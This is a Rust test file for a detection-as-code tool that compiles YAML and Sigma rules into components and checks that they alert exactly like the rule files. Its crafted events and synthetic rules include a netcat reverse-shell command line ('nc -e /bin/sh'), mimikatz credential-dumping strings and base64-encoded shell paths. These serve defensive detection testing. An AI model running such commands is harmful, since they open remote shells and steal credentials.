//! `dac build`: YAML and Sigma rules built into components alert exactly as
//! the rule files do in the host (and, for the seed's rules, as the Rust
//! components), with the rule's metadata and a sound prefilter; broken and
//! oversized rules are refused with nothing written; `dac test` runs the
//! built components' cases.

use dac_engine::{ComponentCache, DeclarativeRule, Limits, Sandbox};
use dac_tests::{dac, dac_run, example_rule, repo_root, sample_log, sigma_dir, yaml_rules_dir};
use serde_json::Value;
use std::ffi::OsStr;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

const SHADOW_UUID: &str = "5e3566a3-9f19-4ac7-8710-ec5fb09260ed";

fn cache_dir() -> PathBuf {
    repo_root().join("target/dac-test-cache")
}

fn run(program: &Path, args: &[&dyn AsRef<OsStr>]) -> Output {
    let mut command = Command::new(program);
    for arg in args {
        command.arg(arg);
    }
    command.env("DAC_CACHE_DIR", cache_dir()).output().expect("run")
}

fn dac_build(args: &[&dyn AsRef<OsStr>]) -> Output {
    let mut all: Vec<&dyn AsRef<OsStr>> = vec![&"build"];
    all.extend_from_slice(args);
    run(dac(), &all)
}

fn stderr(output: &Output) -> String {
    String::from_utf8_lossy(&output.stderr).into_owned()
}

fn alerts(output: &Output) -> Vec<Value> {
    assert_eq!(output.status.code(), Some(0), "{}", stderr(output));
    let mut alerts: Vec<Value> = String::from_utf8(output.stdout.clone())
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|err| panic!("alert is not JSON ({err}): {l}")))
        .collect();
    alerts.sort_by_key(|a| (a["source"].as_str().unwrap().to_owned(), a["uuid"].as_str().unwrap().to_owned()));
    alerts
}

/// An alert without what differs between a component and its rule file:
/// the content hash.
fn without_hash(mut alert: Value) -> Value {
    alert.as_object_mut().unwrap().remove("rule_hash");
    alert
}

fn write(dir: &Path, name: &str, text: &str) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, text).unwrap();
    path
}

/// Builds `rules` into `out` and replays `log` through the components and
/// through the rule files, with the prefilter and without: the alerts
/// must be the same, field for field. Returns them.
fn built_alert_like_the_files(rules: &[PathBuf], out: &Path, log: &Path, mapping: Option<&Path>) -> Vec<Value> {
    let mut args: Vec<&dyn AsRef<OsStr>> = rules.iter().map(|r| r as &dyn AsRef<OsStr>).collect();
    args.extend([&"-o" as &dyn AsRef<OsStr>, &out]);
    if let Some(mapping) = &mapping {
        args.extend([&"--sigma-mapping" as &dyn AsRef<OsStr>, mapping]);
    }
    let built = dac_build(&args);
    assert_eq!(built.status.code(), Some(0), "{}", stderr(&built));
    let mut first = None;
    for flag in [None, Some("--no-prefilter")] {
        let mut components: Vec<&dyn AsRef<OsStr>> = vec![&out, &"--replay", &log];
        let mut files: Vec<&dyn AsRef<OsStr>> = rules.iter().map(|r| r as &dyn AsRef<OsStr>).collect();
        files.extend([&"--replay" as &dyn AsRef<OsStr>, &log]);
        if let Some(mapping) = &mapping {
            components.extend([&"--sigma-mapping" as &dyn AsRef<OsStr>, mapping]);
            files.extend([&"--sigma-mapping" as &dyn AsRef<OsStr>, mapping]);
        }
        if let Some(flag) = &flag {
            components.push(flag);
            files.push(flag);
        }
        let from_components: Vec<Value> = alerts(&run(dac_run(), &components)).into_iter().map(without_hash).collect();
        let from_files: Vec<Value> = alerts(&run(dac_run(), &files)).into_iter().map(without_hash).collect();
        assert_eq!(from_components, from_files, "prefilter flag {flag:?}");
        if let Some(first) = &first {
            assert_eq!(&from_components, first, "the prefilter changes nothing");
        }
        first = Some(from_components);
    }
    first.unwrap()
}

#[test]
fn the_seeds_yaml_rules_built_alert_like_the_yaml_files_and_the_rust_components() {
    let dir = tempfile::tempdir().unwrap();
    let rules = [yaml_rules_dir().join("shadow.yaml"), yaml_rules_dir().join("tmp_output_redir.yaml")];
    let built = built_alert_like_the_files(&rules, &dir.path().join("built"), &sample_log(), None);
    assert!(built.iter().any(|a| a["uuid"] == SHADOW_UUID), "the sample log fires the shadow rule");

    let rust =
        run(dac_run(), &[&example_rule("shadow"), &example_rule("tmp-output-redir"), &"--replay", &sample_log()]);
    // The Rust rules word their findings their own way.
    let wording = |alert: Value| {
        let mut alert = without_hash(alert);
        for finding in alert["findings"].as_array_mut().unwrap() {
            finding.as_object_mut().unwrap().remove("message");
        }
        alert
    };
    assert_eq!(
        alerts(&rust).into_iter().map(wording).collect::<Vec<_>>(),
        built.into_iter().map(wording).collect::<Vec<_>>(),
        "rule uuid, matched fields and event as the Rust components"
    );
}

#[test]
fn a_built_component_carries_the_rules_metadata_and_prefilter() {
    let dir = tempfile::tempdir().unwrap();
    let sandbox = Sandbox::new(Limits::default(), ComponentCache::new(Some(cache_dir()))).unwrap();
    let mapping = dac_detect::FieldMapping::default();
    for rule in [yaml_rules_dir().join("shadow.yaml"), sigma_dir().join("proc_creation_lnx_base64_decode.yml")] {
        let out = dir.path().join("r.wasm");
        let built = dac_build(&[&rule, &"-o", &out]);
        assert_eq!(built.status.code(), Some(0), "{}", stderr(&built));
        assert!(stderr(&built).contains(&format!("built {}", out.display())), "{}", stderr(&built));
        let component = sandbox.load_file(&out).unwrap();
        let got = component.info();
        let file = DeclarativeRule::load_file(&rule, &mapping, &Default::default()).unwrap();
        let set = dac_engine::Precompiled::compile(std::slice::from_ref(&file)).unwrap().set;
        let want = &file.info;
        assert_eq!(
            (&got.name, &got.uuid, &got.version, got.severity, &got.description, &got.tags, &got.authors),
            (&want.name, &want.uuid, &want.version, want.severity, &want.description, &want.tags, &want.authors),
            "{}",
            rule.display()
        );
        let host = set.host_prefilter(0).expect("the rule declares literals");
        let declared = got.prefilter.clone().expect("the component declares a prefilter");
        assert_eq!((&declared.fields, declared.ascii_case_insensitive), (&host.fields, host.ascii_case_insensitive));
        // Sound alone: the host's literals, plus the characters that fold
        // to ASCII when they are folded ones.
        let mut expected = host.literals.clone();
        if host.ascii_case_insensitive {
            expected.extend(dac_detect::FOLDS_TO_ASCII.map(String::from));
        }
        assert_eq!(declared.literals, expected, "{}", rule.display());
    }
}

/// Constructs the SigmaHQ Linux rules do not use, on crafted events.
const SYNTHETIC: [(&str, &str); 9] = [
    ("windash", "    sel:\n        CommandLine|windash|contains: ' -exec '\n    condition: sel\n"),
    ("base64offset", "    sel:\n        CommandLine|base64offset|contains: '/bin/bash'\n    condition: sel\n"),
    ("cidr", "    sel:\n        ProcessId|cidr:\n            - 10.0.0.0/8\n            - '2001:db8::/32'\n    condition: sel\n"),
    ("exists", "    sel:\n        User|exists: true\n        CurrentDirectory|exists: false\n    condition: sel\n"),
    ("fieldref", "    sel:\n        ParentImage|fieldref: Image\n    condition: sel\n"),
    ("keywords", "    keywords:\n        - 'mimikatz'\n        - 'sekurlsa'\n    condition: keywords\n"),
    ("cased", "    sel:\n        CommandLine|contains|cased: 'Invoke-'\n    condition: sel\n"),
    ("re", "    sel:\n        CommandLine|re: '(?i)\\bnc\\s+-e\\b'\n    condition: sel\n"),
    ("null", "    sel:\n        Image|endswith: '/sh'\n        ParentCommandLine: null\n    condition: sel\n"),
];

const CRAFTED: &str = concat!(
    "{\"command_line\":\"find . -exec rm {} ;\",\"path\":\"/usr/bin/find\"}\n",
    "{\"command_line\":\"find . /exec rm\",\"path\":\"/usr/bin/find\"}\n",
    "{\"command_line\":\"echo L2Jpbi9iYXNo | base64 -d\"}\n",
    "{\"command_line\":\"echo vYmluL2Jhc2 | base64 -d\"}\n",
    "{\"pid\":\"10.1.2.3\"}\n",
    "{\"pid\":\"2001:db8::7\",\"user\":\"root\"}\n",
    "{\"pid\":\"192.168.0.1\",\"user\":\"root\",\"cwd\":\"/tmp\"}\n",
    "{\"path\":\"/bin/sh\",\"parent_path\":\"/bin/sh\"}\n",
    "{\"path\":\"/bin/sh\",\"parent_path\":\"/bin/bash\",\"parent_command_line\":null}\n",
    "{\"path\":\"/bin/sh\"}\n",
    "{\"command_line\":\"./mimikatz.exe\",\"argv\":[\"x\",{\"deep\":\"SEKURLSA::logonpasswords\"}]}\n",
    "{\"nested\":{\"a\":[1,\"MimiKatz\"]},\"_id\":{\"$oid\":\"650b89dfcf00592980c13266\"}}\n",
    "{\"command_line\":\"powershell Invoke-Expression\"}\n",
    "{\"command_line\":\"powershell invoke-expression\"}\n",
    "{\"command_line\":\"nc -e /bin/sh 10.0.0.1 4444\",\"ts\":{\"$date\":\"2023-09-21T00:10:07.378Z\"}}\n",
    "{\"command_line\":\"NC  -E /bin/sh\",\"pid\":{\"$numberLong\":\"42\"}}\n",
    "{\"command_line\":\"/bin/\u{212A}ILL -9 1\"}\n",
    "{\"command_line\":\"kill \\u002d9 1 mimikatz\"}\n",
);

#[test]
fn sigma_constructs_built_alert_like_the_host_side_rules() {
    let dir = tempfile::tempdir().unwrap();
    let rules: Vec<PathBuf> = SYNTHETIC
        .iter()
        .enumerate()
        .map(|(i, (name, detection))| {
            let text = format!(
                "title: 'Synthetic {name}'\nid: synthetic-{i}\nauthor: Test Author\nlevel: low\ntags: [attack.t0000]\nlogsource: {{product: linux, category: process_creation}}\ndetection:\n{detection}"
            );
            write(dir.path(), &format!("{name}.yml"), &text)
        })
        .collect();
    let log = write(dir.path(), "crafted.ndjson", CRAFTED);
    let alerts = built_alert_like_the_files(&rules, &dir.path().join("built"), &log, None);
    let fired: std::collections::BTreeSet<&str> = alerts.iter().map(|a| a["rule_name"].as_str().unwrap()).collect();
    assert_eq!(fired.len(), SYNTHETIC.len(), "every construct fires on some crafted event: {fired:?}");
}

/// The seed's own kill -9 example from the prefilter test of the YAML rules:
/// text that only matches after Unicode folding, escapes, numbers as text.
#[test]
fn the_built_prefilter_never_drops_what_the_rule_would_match() {
    let dir = tempfile::tempdir().unwrap();
    let kill = write(
        dir.path(),
        "kill.yml",
        "title: Kill\nid: k-1\nlogsource: {product: linux, category: process_creation}\ndetection:\n  sel:\n    CommandLine|contains: 'kill -9'\n  condition: sel\n",
    );
    let pid = write(dir.path(), "pid.yaml", "name: Pid\nuuid: p-1\ndetection_logic:\n  pid:\n    - '4242'\n");
    let log = write(
        dir.path(),
        "log.ndjson",
        concat!(
            "{\"command_line\":\"/bin/\u{212A}ILL -9 1\"}\n",
            "{\"command_line\":\"kill \\u002d9 1\"}\n",
            "{\"command_line\":\"ls\",\"pid\":{\"$numberLong\":\"4242\"}}\n",
            "{\"command_line\":\"ls\",\"pid\":17}\n",
            "{\"command_line\":\"/B\u{130}N/KILL -9 1\"}\n",
        ),
    );
    let alerts = built_alert_like_the_files(&[kill, pid], &dir.path().join("built"), &log, None);
    let got: Vec<(String, String)> = alerts
        .iter()
        .map(|a| {
            let line = a["source"].as_str().unwrap().rsplit(':').next().unwrap().to_owned();
            (line, a["uuid"].as_str().unwrap().to_owned())
        })
        .collect();
    let expected = [("1", "k-1"), ("2", "k-1"), ("3", "p-1"), ("5", "k-1")].map(|(l, u)| (l.to_owned(), u.to_owned()));
    assert_eq!(got, expected);
}

/// SigmaHQ rules exercising regular expressions, `|all`, `startswith`,
/// `1 of`, `not`, null and plain `contains`, over the Sigma fixture events
/// and the sample log, with and without a custom field mapping.
#[test]
fn sigmahq_rules_built_alert_like_the_host_side_rules() {
    let dir = tempfile::tempdir().unwrap();
    let names = [
        "proc_creation_lnx_auditctl_clear_rules.yml",
        "proc_creation_lnx_file_and_directory_discovery.yml",
        "proc_creation_lnx_chmod_targeting_sensitive_directories.yml",
        "proc_creation_lnx_susp_git_clone.yml",
        "proc_creation_lnx_clear_syslog.yml",
        "proc_creation_lnx_base64_decode.yml",
        "proc_creation_lnx_apt_shell_execution.yml",
    ];
    let rules: Vec<PathBuf> = names.iter().map(|n| sigma_dir().join(n)).collect();
    let log = sigma_fixture_events(dir.path());
    let alerts = built_alert_like_the_files(&rules, &dir.path().join("built"), &log, None);
    assert!(alerts.len() >= names.len(), "the fixtures fire these rules: {} alerts", alerts.len());

    let mapping = write(
        dir.path(),
        "edr.toml",
        "name = \"edr\"\n[[logsource]]\nproduct = \"linux\"\ncategory = \"process_creation\"\n[fields]\nCommandLine = \"process.cmd\"\nImage = \"process.image\"\n",
    );
    let whoami = write(
        dir.path(),
        "whoami.yml",
        "title: Whoami\nid: w-1\nauthor: Ann Analyst\nlevel: low\nlogsource: {product: linux, category: process_creation}\ndetection:\n  sel:\n    CommandLine|contains: whoami\n  condition: sel\n",
    );
    let mapped_log = write(
        dir.path(),
        "mapped.ndjson",
        "{\"process\":{\"cmd\":\"WHOAMI /all\",\"image\":\"/usr/bin/whoami\"}}\n{\"command_line\":\"whoami\"}\n",
    );
    let alerts = built_alert_like_the_files(&[whoami], &dir.path().join("mapped"), &mapped_log, Some(&mapping));
    assert_eq!(alerts.len(), 1, "only the mapped field is read");
    assert_eq!(alerts[0]["findings"][0]["matched"][0]["path"], "process.cmd");
}

/// All 122 SigmaHQ rules as components against the host-side rules: about
/// six minutes on the 2-core machine, mostly compiling 122 components once
/// (`cargo test -p dac-tests --test dac_build -- --ignored`).
#[test]
#[ignore]
fn all_sigmahq_rules_built_alert_like_the_host_side_rules() {
    let dir = tempfile::tempdir().unwrap();
    let mut rules: Vec<PathBuf> = std::fs::read_dir(sigma_dir())
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| dac_detect::is_rule_file(p))
        .collect();
    rules.sort();
    assert_eq!(rules.len(), 122);
    let log = sigma_fixture_events(dir.path());
    let alerts = built_alert_like_the_files(&rules, &dir.path().join("built"), &log, None);
    assert!(alerts.len() > 100, "{} alerts", alerts.len());
}

/// The events of `detect/tests/fixtures/sigma.ndjson` (one case per line,
/// its event under `event`) and the sample log, as one replay file.
fn sigma_fixture_events(dir: &Path) -> PathBuf {
    let fixtures = std::fs::read_to_string(repo_root().join("detect/tests/fixtures/sigma.ndjson")).unwrap();
    let mut out = String::new();
    for line in fixtures.lines().filter(|l| !l.trim().is_empty()) {
        let case: Value = serde_json::from_str(line).unwrap();
        out.push_str(&case["event"].to_string());
        out.push('\n');
    }
    out.push_str(&std::fs::read_to_string(sample_log()).unwrap());
    write(dir, "events.ndjson", &out)
}

#[test]
fn broken_and_oversized_rules_are_refused_and_nothing_is_written() {
    let dir = tempfile::tempdir().unwrap();
    let broken = write(dir.path(), "broken.yml", "name: B\nuuid: b-1\ndetection_logic:\n  command_line: 3\n");
    let out = dir.path().join("broken.wasm");
    let output = dac_build(&[&broken, &"-o", &out]);
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    assert!(
        stderr(&output).contains(&format!("{}:4: detection_logic.command_line", broken.display())),
        "{}",
        stderr(&output)
    );
    assert!(stderr(&output).contains("nothing was written"), "{}", stderr(&output));
    assert!(!out.exists());

    // One broken rule in a directory: no component for the good ones either.
    let rules = dir.path().join("rules");
    std::fs::create_dir(&rules).unwrap();
    std::fs::copy(yaml_rules_dir().join("shadow.yaml"), rules.join("shadow.yaml")).unwrap();
    std::fs::copy(&broken, rules.join("broken.yml")).unwrap();
    let unsupported = write(
        &rules,
        "agg.yml",
        "title: A\nid: a-1\nlogsource: {product: linux, category: process_creation}\ndetection:\n  sel:\n    Image|endswith: /sh\n  condition: sel | count() > 5\n",
    );
    let built = dir.path().join("built");
    let output = dac_build(&[&rules, &"-o", &built]);
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    assert!(
        stderr(&output).contains(&format!("{}:7: detection.condition: unsupported", unsupported.display())),
        "{}",
        stderr(&output)
    );
    assert!(!built.exists(), "nothing written");

    let literals: String = (0..3000).map(|i| format!("    - /very/long/literal/number/{i:06}/of/many\n")).collect();
    let huge =
        write(dir.path(), "huge.yaml", &format!("name: H\nuuid: h-1\ndetection_logic:\n  command_line:\n{literals}"));
    let out = dir.path().join("huge.wasm");
    let output = dac_build(&[&huge, &"-o", &out]);
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    assert!(stderr(&output).contains("bytes a built component holds"), "{}", stderr(&output));
    assert!(!out.exists());

    let output = dac_build(&[&dir.path().join("missing.yml")]);
    assert_eq!(output.status.code(), Some(2), "{}", stderr(&output));
    assert!(stderr(&output).contains("missing.yml: no such file"), "{}", stderr(&output));
}

#[test]
fn default_output_is_the_rule_name_in_the_current_directory() {
    let dir = tempfile::tempdir().unwrap();
    let output = Command::new(dac())
        .args(["build"])
        .arg(yaml_rules_dir().join("shadow.yaml"))
        .current_dir(dir.path())
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    let built = dir.path().join("shadow.wasm");
    assert!(built.is_file());
    let mode = std::os::unix::fs::PermissionsExt::mode(&std::fs::metadata(&built).unwrap().permissions());
    assert_eq!(mode & 0o777, 0o644);
    let leftovers: Vec<_> = std::fs::read_dir(dir.path()).unwrap().map(|e| e.unwrap().file_name()).collect();
    assert_eq!(leftovers, [std::ffi::OsString::from("shadow.wasm")], "no temporary file left");
}

#[test]
fn dac_test_runs_the_cases_beside_built_components() {
    let dir = tempfile::tempdir().unwrap();
    let built = dir.path().join("built");
    let output = dac_build(&[&yaml_rules_dir(), &"-o", &built]);
    assert_eq!(output.status.code(), Some(0), "{}", stderr(&output));
    for name in ["shadow", "tmp_output_redir"] {
        let cases = format!("{name}.tests.ndjson");
        std::fs::copy(yaml_rules_dir().join(&cases), built.join(&cases)).unwrap();
    }
    let output = run(dac(), &[&"test", &built]);
    let text = format!("{}{}", String::from_utf8_lossy(&output.stdout), stderr(&output));
    assert_eq!(output.status.code(), Some(0), "{text}");
    assert!(text.contains(" passed") && !text.contains("FAILED"), "{text}");
}
